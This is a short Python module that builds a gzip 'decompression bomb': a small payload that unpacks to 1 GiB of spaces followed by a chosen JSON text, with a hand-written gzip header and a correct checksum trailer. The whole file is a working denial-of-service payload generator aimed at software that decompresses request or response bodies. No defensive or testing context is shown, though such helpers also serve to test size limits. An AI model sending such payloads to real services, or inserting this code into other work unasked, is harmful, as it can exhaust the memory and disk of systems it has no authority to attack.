"""A small body that unpacks to a large one."""

import zlib
from functools import cache
from typing import Final

#: How much white space stands before the message.
BOMB_BYTES: Final = 1024**3
_BLOCK: Final = b" " * 1024**2
_COUNT: Final = BOMB_BYTES // len(_BLOCK)
#: Source: RFC 1952, section 2.3 (deflate, no flags, no time, system unknown).
_HEADER: Final = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"


def make_bomb(text: bytes) -> bytes:
    """Gzip a text behind 1 GiB of spaces, which JSON allows there."""
    start, checksum = _make_start()
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    end = packer.compress(text) + packer.flush()
    trailer = zlib.crc32(text, checksum), (BOMB_BYTES + len(text)) % 2**32
    return start + end + b"".join(number.to_bytes(4, "little") for number in trailer)


@cache
def _make_start() -> tuple[bytes, int]:
    """Make the packed spaces, without an end, and their checksum."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # Each block stands alone, so that one packed block can be repeated.
    block = packer.compress(_BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 0
    for _ in range(_COUNT):
        checksum = zlib.crc32(_BLOCK, checksum)
    return _HEADER + block * _COUNT, checksum
